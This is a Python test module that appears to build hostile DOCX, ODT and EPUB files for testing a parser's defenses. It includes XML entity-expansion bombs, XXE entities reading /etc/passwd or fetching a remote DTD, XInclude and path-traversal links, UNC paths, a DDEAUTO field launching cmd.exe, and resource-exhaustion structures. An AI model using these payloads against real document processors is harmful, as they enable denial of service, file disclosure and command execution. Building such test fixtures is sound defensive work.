"""Word documents, OpenDocument texts and books whose XML is made to do harm."""

from collections.abc import Callable

from tests.articles.making import ODF, OFFICE, WORD_SPACES, docx, epub, odt, p, zipped

WORDS = "Ships waited outside for three days."
SECRET = "file:///etc/passwd"
ELSEWHERE = "http://203.0.113.7/x.dtd"  # an address that is nobody's (RFC 5737)

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DEFINITIONS = {
    "billion laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
    "quadratic blow-up": (f'<!DOCTYPE x [<!ENTITY l "{"ha" * 50_000}">]>', "&l;" * 50_000),
    "external entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{SECRET}">]>', "&e;"),
    "entity elsewhere": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ELSEWHERE}">]>', "&e;"),
    "parameter entity": (f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{ELSEWHERE}"> %e;]>', ""),
    "definitions elsewhere": (f'<!DOCTYPE x SYSTEM "{ELSEWHERE}">', ""),
    "public entity": (f'<!DOCTYPE x PUBLIC "-//X//X" "{SECRET}" [<!ENTITY e PUBLIC "x" "{SECRET}">]>', "&e;"),
}

Package = Callable[[str, str, str], bytes]


def _in_word(definitions: str, words: str, encoding: str) -> bytes:
    body = f"<w:document {WORD_SPACES}><w:body>{p(WORDS).replace(WORDS, WORDS + words)}</w:body></w:document>"
    return docx(parts={"word/document.xml": _encoded(definitions + body, encoding)})


def _in_open_document(definitions: str, words: str, encoding: str) -> bytes:
    text = f"<office:text><text:p>{WORDS}{words}</text:p></office:text>"
    body = f"<office:document-content {ODF}><office:body>{text}</office:body></office:document-content>"
    return odt(parts={"content.xml": _encoded(definitions + body, encoding)})


def _in_book(definitions: str, words: str, encoding: str) -> bytes:
    chapter = f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{WORDS}{words}</p></body></html>'
    return epub("", parts={"OPS/text/chapter1.xhtml": _encoded(definitions + chapter, encoding)})


def _encoded(xml: str, encoding: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>{xml}'.encode(encoding)


IN: dict[str, Package] = {"docx": _in_word, "odt": _in_open_document, "epub": _in_book}


def _defined(kind: str, name: str, encoding: str) -> tuple[str, bytes]:
    definitions, words = DEFINITIONS[name]
    return f"story.{kind}", IN[kind](definitions, words, encoding)


def _deep(kind: str) -> tuple[str, bytes]:
    element = {"docx": "w:sdt", "odt": "text:section", "epub": "div"}[kind]
    return f"story.{kind}", IN[kind]("", f"<{element}>" * 50_000 + f"</{element}>" * 50_000, "UTF-8")


def _included(kind: str) -> tuple[str, bytes]:
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{SECRET}" parse="text"/>'
    return f"story.{kind}", IN[kind](f'<?xml-stylesheet href="{SECRET}" type="text/xsl"?>', include, "UTF-8")


def _linked_word() -> tuple[str, bytes]:
    """Pictures, sub-documents and templates that are said to be elsewhere."""
    targets = (SECRET, ELSEWHERE, "../../../../etc/passwd", "/etc/passwd", "\\\\203.0.113.7\\share\\x.png")
    kinds = ("image", "attachedTemplate", "subDocument", "aFChunk", "oleObject", "frame")
    relations = "".join(
        f'<Relationship Id="h{number}{kind}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, target in enumerate(targets)
        for kind in kinds
        for mode in ("External",)
    )
    shown = "".join(
        f'<w:p><w:r><w:drawing><a:blip r:link="h{number}image" r:embed="h{number}image"/></w:drawing></w:r></w:p>'
        f'<w:altChunk r:id="h{number}aFChunk"/><w:subDoc r:id="h{number}subDocument"/>'
        for number in range(len(targets))
    )
    fields = p(f'{WORDS} INCLUDETEXT "/etc/passwd" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
    return "story.docx", docx(fields, shown, relations=relations)


def _linked_open_document() -> tuple[str, bytes]:
    shown = "".join(
        f'<text:p>{WORDS}<draw:frame><draw:image xlink:href="{target}"/></draw:frame>'
        f'<text:section-source xlink:href="{target}"/></text:p>'
        for target in (SECRET, ELSEWHERE, "../../etc/passwd", "Pictures/../../../etc/passwd")
    )
    return "story.odt", odt(shown)


def _linked_book() -> tuple[str, bytes]:
    items = "".join(
        f'<item id="x{number}" href="{target}" media-type="application/xhtml+xml"/>'
        for number, target in enumerate((SECRET, ELSEWHERE, "../../../etc/passwd", "/etc/passwd", "%2e%2e/%2e%2e/etc"))
    )
    spine = "".join(f'<itemref idref="x{number}"/>' for number in range(5))
    chapter = f'<p>{WORDS}</p><img src="{SECRET}" alt=""/><img src="../../../etc/passwd" alt=""/>'
    return "story.epub", epub(chapter, items=items, spine=spine)


def _ring_of_styles() -> tuple[str, bytes]:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{(n + 1) % 2_000}"/>'
        "</w:style>"
        for n in range(2_000)
    )
    return "story.docx", docx(p(WORDS, "s0"), parts={"word/styles.xml": f"<w:styles {WORD_SPACES}>{styles}</w:styles>"})


def _ring_of_styles_in_open_document() -> tuple[str, bytes]:
    styles = "".join(
        f'<style:style style:name="s{n}" style:family="paragraph" style:parent-style-name="s{(n + 1) % 2_000}"/>'
        for n in range(2_000)
    )
    return "story.odt", odt(f'<text:p text:style-name="s0">{WORDS}</text:p>', styles=styles)


def _wide_table() -> tuple[str, bytes]:
    """A cell said to be a thousand million columns and rows, and to be repeated as often."""
    cell = (
        '<table:table-cell table:number-columns-repeated="1000000000" table:number-columns-spanned="1000000000" '
        f'table:number-rows-spanned="1000000000"><text:p>{WORDS}</text:p></table:table-cell>'
    )
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    spaces = f'<text:p>{WORDS}<text:s text:c="2000000000"/></text:p>'
    return "story.odt", odt(spaces, f"<table:table>{row}</table:table>")


def _many_notes() -> tuple[str, bytes]:
    """Notes that refer to each other."""
    note = '<w:footnote w:id="{0}"><w:p><w:r><w:t>x</w:t><w:footnoteReference w:id="{1}"/></w:r></w:p></w:footnote>'
    notes = "".join(note.format(n, (n + 1) % 500) for n in range(500))
    reference = '<w:p><w:r><w:footnoteReference w:id="0"/></w:r></w:p>'
    return "story.docx", docx(
        p(WORDS), reference, parts={"word/footnotes.xml": f"<w:footnotes {WORD_SPACES}>{notes}</w:footnotes>"}
    )


def _broken_fonts() -> tuple[str, bytes]:
    fonts = {f"word/fonts/font{n}.odttf": bytes(range(256)) * 40 for n in range(5)}
    return "story.docx", docx(p(WORDS), parts=fonts)


FILES = {
    **{
        f"{kind}: {name}, {encoding}": lambda kind=kind, name=name, encoding=encoding: _defined(kind, name, encoding)
        for kind in IN
        for name in DEFINITIONS
        for encoding in ("UTF-8", "UTF-16")
    },
    **{f"{kind}: elements 50,000 deep": lambda kind=kind: _deep(kind) for kind in IN},
    **{f"{kind}: inclusions": lambda kind=kind: _included(kind) for kind in IN},
    "docx: parts elsewhere": _linked_word,
    "odt: parts elsewhere": _linked_open_document,
    "epub: parts elsewhere": _linked_book,
    "docx: a ring of styles": _ring_of_styles,
    "odt: a ring of styles": _ring_of_styles_in_open_document,
    "odt: repeated without end": _wide_table,
    "docx: a ring of notes": _many_notes,
    "docx: broken fonts": _broken_fonts,
    "docx: no document in it": lambda: ("story.docx", zipped({"[Content_Types].xml": "<x/>", "word/x": "x"})),
}
